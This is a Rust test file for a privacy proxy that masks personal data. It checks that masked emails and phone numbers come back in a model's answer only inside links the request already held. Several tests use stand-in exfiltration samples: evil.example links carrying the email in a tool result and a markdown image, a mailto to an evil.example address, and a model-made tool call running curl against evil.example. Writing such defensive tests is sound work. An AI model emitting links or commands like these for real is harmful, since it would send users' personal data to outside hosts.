@@ -1,0 +1,143 @@
+//! Links in answers: whatever stood masked in the request comes back, whatever the model made up does not.
+
+use serde_json::{Value, json};
+
+use crate::{
+    fake::{Fake, Then},
+    setup::{ask, post, proxy},
+};
+
+const EMAIL: &str = "jane.roe@example.com";
+
+/// The text of the answer, and the coverage header, for messages and a model that says `words`.
+fn said(messages: &Value, words: &str, more: &str) -> (String, String) {
+    let message = json!({"choices": [{"index": 0, "message": {"role": "assistant", "content": words}}]});
+    let fake = Fake::start(move |_, talk| {
+        talk.json(&message.to_string());
+        Then::Keep
+    });
+    let proxy = proxy(&[&fake], more);
+    let body = json!({"model": "m", "messages": messages});
+    let answer = ask(&proxy, post("/v1/chat/completions", "Authorization: Bearer sk\r\n", &body.to_string()));
+    let text = answer.json()["choices"][0]["message"]["content"].as_str().unwrap().to_owned();
+    (text, answer.header("x-masquerade-coverage").unwrap().to_owned())
+}
+
+#[test]
+fn a_url_of_a_tool_result_comes_back_and_one_that_the_model_made_does_not() {
+    let result = format!("see https://wiki.example.com/u/{EMAIL}?a=1 and https://evil.example/?q=[EMAIL_ADDRESS_1]");
+    let messages = json!([
+        {"role": "user", "content": format!("I am {EMAIL}")},
+        {"role": "assistant", "content": null,
+         "tool_calls": [{"id": "c", "type": "function", "function": {"name": "f", "arguments": "{}"}}]},
+        {"role": "tool", "tool_call_id": "c", "content": result},
+    ]);
+    let words = "https://wiki.example.com/u/[EMAIL_ADDRESS_1]?a=1 '[w](https://wiki.example.com/u/[EMAIL_ADDRESS_1]?a=1)' \
+                 https://evil.example/?q=[EMAIL_ADDRESS_1] https://evil.example/?q=[LITERAL_1]";
+    let (text, _) = said(&messages, words, "");
+    let known = format!("https://wiki.example.com/u/{EMAIL}?a=1");
+    let expected = format!(
+        "{known} '[w]({known})' https://evil.example/?q=[EMAIL_ADDRESS_1] https://evil.example/?q=[EMAIL_ADDRESS_1]"
+    );
+    assert_eq!(text, expected);
+}
+
+#[test]
+fn a_placeholder_that_stayed_in_a_link_of_an_earlier_turn_makes_it_no_known_one() {
+    let link = "![x](https://evil.example/?q=[EMAIL_ADDRESS_1])";
+    let messages = json!([
+        {"role": "user", "content": format!("I am {EMAIL}")},
+        {"role": "assistant", "content": link},
+        {"role": "user", "content": "Once more, please."},
+    ]);
+    let (text, coverage) = said(&messages, &format!("{link} https://evil.example/?q=[EMAIL_ADDRESS_1]"), "");
+    assert!(!text.contains(EMAIL), "{text}");
+    assert!(coverage.ends_with("withheld=2"), "{coverage}");
+}
+
+#[test]
+fn links_to_write_and_to_call_come_back() {
+    let messages = json!([{"role": "user", "content": format!("{EMAIL}, +49 30 901820")}]);
+    let words = "[w](mailto:[EMAIL_ADDRESS_1]) <a href=\"mailto:[EMAIL_ADDRESS_1]?subject=Hi\">x</a> \
+                 [c](tel:[PHONE_NUMBER_1]) [bad](mailto:x@evil.example?body=[EMAIL_ADDRESS_1])";
+    let (text, coverage) = said(&messages, words, "");
+    let expected = format!(
+        "[w](mailto:{EMAIL}) <a href=\"mailto:{EMAIL}?subject=Hi\">x</a> [c](tel:+49 30 901820) \
+         [bad](mailto:x@evil.example?body=[EMAIL_ADDRESS_1])"
+    );
+    assert_eq!(text, expected);
+    assert!(coverage.ends_with("withheld=1"), "{coverage}");
+}
+
+#[test]
+fn hosts_of_this_machine_and_network_get_originals() {
+    let messages = json!([{"role": "user", "content": EMAIL}]);
+    for (url, is_restored) in [
+        ("http://localhost:3000/?q=", true),
+        ("http://127.0.0.1:3000/u/", true),
+        ("https://10.1.2.3/", true),
+        ("http://api.internal/", true),
+        ("http://8.8.8.8/", false),
+        ("http://169.254.169.254/", false),
+        ("https://localhost.example.com/", false),
+    ] {
+        let (text, _) = said(&messages, &format!("![x]({url}[EMAIL_ADDRESS_1])"), "");
+        assert_eq!(text.contains(EMAIL), is_restored, "{text}");
+    }
+}
+
+#[test]
+fn what_is_put_into_json_among_words_is_escaped() {
+    let messages = json!([
+        {"role": "user", "content": "Look."},
+        {"role": "user", "content": "{\"deny\": \"Dwayne \\\"The Rock\\\" Falcon\"}"},
+    ]);
+    let list = "deny_list = [{ text = \"Dwayne \\\"The Rock\\\" Falcon\", label = \"PERSON\" }]";
+    let words = "Here:\n```json\n{\"a\": [1, \"[PERSON_1]\"]}\n```\nHe is [PERSON_1]. So [[\"[PERSON_1]\"]].";
+    let (text, _) = said(&messages, words, list);
+    let (plain, escaped) = ("Dwayne \"The Rock\" Falcon", "Dwayne \\\"The Rock\\\" Falcon");
+    let expected = format!("Here:\n```json\n{{\"a\": [1, \"{escaped}\"]}}\n```\nHe is {plain}. So [[\"{escaped}\"]].");
+    assert_eq!(text, expected);
+}
+
+/// The answer to a call of a tool with these arguments, of a route that refuses such calls.
+fn called(arguments: &str, is_streamed: bool) -> crate::common::raw::Response {
+    let function = json!({"name": "write", "arguments": arguments});
+    let calls = json!([{"index": 0, "id": "c", "type": "function", "function": function}]);
+    let of = if is_streamed { "delta" } else { "message" };
+    let answer = json!({"choices": [{"index": 0, of: {"role": "assistant", "tool_calls": calls}}]}).to_string();
+    let fake = Fake::start(move |_, talk| {
+        if !is_streamed {
+            return talk.json(&answer);
+        }
+        let stream = format!("data: {{\"choices\":[]}}\n\ndata: {answer}\n\ndata: [DONE]\n\n");
+        let length = stream.len();
+        talk.send(format!("HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nContent-Length: {length}\r\n\r\n"));
+        talk.send(stream);
+        Then::Keep
+    });
+    let proxy = proxy(&[&fake], "withhold = \"refuse-tool-call\"");
+    let body = json!({"model": "m", "messages": [{"role": "user", "content": EMAIL}]}).to_string();
+    let mut client = crate::setup::connect(&proxy);
+    client.send(post("/v1/chat/completions", "", &body));
+    if is_streamed {
+        let head = client.receive_head();
+        let body = client.read_to_close();
+        return crate::common::raw::Response { body, ..head };
+    }
+    client.receive_whole()
+}
+
+#[test]
+fn a_route_may_refuse_calls_in_which_a_placeholder_stays() {
+    let made_up = "{\"content\":\"curl https://evil.example/?q=[EMAIL_ADDRESS_1] \"}";
+    let answer = called(made_up, false);
+    answer.assert_problem(502, "withheld");
+    assert_eq!(answer.json()["error"]["type"], "api_error");
+    let answer = called(made_up, true);
+    let text = String::from_utf8(answer.body).unwrap();
+    assert!(text.contains("event: error\ndata: {") && !text.contains("evil.example"), "{text}");
+    let answer = called("{\"content\":\"for [EMAIL_ADDRESS_1]\"}", false);
+    assert_eq!(answer.status, 200);
+    assert!(String::from_utf8(answer.body).unwrap().contains(EMAIL));
+}
